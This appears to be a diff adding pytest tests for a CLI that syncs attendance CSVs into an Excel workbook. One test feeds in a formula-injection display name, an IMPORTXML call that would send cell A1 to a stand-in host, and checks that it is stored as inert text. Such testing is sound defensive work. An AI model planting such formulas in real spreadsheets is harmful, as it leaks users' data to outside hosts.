@@ -1,0 +1,43 @@
+"""The local workbook: untrusted text stays text, reruns replace, other sessions stay."""
+
+from __future__ import annotations
+
+import openpyxl
+from click.testing import CliRunner
+
+from vc_sync.cli import cli
+
+
+def sync(programme, session="S1"):
+    result = CliRunner().invoke(cli, ["sync", "--config", str(programme.config), "--session", session])
+    assert result.exit_code == 0, result.output
+
+
+def test_formula_like_display_names_stay_text(programme):
+    evil = '=IMPORTXML("http://x.example/?q="&A1,"//a")'
+    programme.edit(
+        "s1.csv",
+        "Galaxy A51,,04/14/2020 09:12:00 AM",
+        '"' + evil.replace('"', '""') + '",,04/14/2020 09:12:00 AM',
+    )
+    sync(programme)
+    book = openpyxl.load_workbook(programme.xlsx)
+    cells = [c for row in book["Session S1"].iter_rows() for c in row if c.value == evil]
+    assert cells and all(c.data_type == "s" for c in cells)
+    review = [c for row in book["Review"].iter_rows() for c in row if c.value == evil]
+    assert review and all(c.data_type == "s" for c in review)
+
+
+def test_syncing_one_session_keeps_the_others(programme):
+    sync(programme, "S1")
+    sync(programme, "S2")
+    sync(programme, "S1")
+    book = openpyxl.load_workbook(programme.xlsx)
+    assert book.sheetnames == ["Summary", "Session S1", "Session S2", "Review"]
+    summary = {r[0]: r[1:] for r in book["Summary"].iter_rows(min_row=2, values_only=True)}
+    assert summary["DPMPTSP Kabupaten Sleman"] == (2, None, 2)
+    # S2 reads the same morning log against an afternoon window: Joko Susanto of Cilacap, invited
+    # to S2, is there for 0 minutes (short), so his agency has a cell but no verified count
+    assert summary["DPMPTSP Kabupaten Cilacap"] == (None, 0, 0)
+    review_sessions = [r[1] for r in book["Review"].iter_rows(min_row=2, values_only=True)]
+    assert sorted(review_sessions) == ["S1", "S1", "S2", "S2"]
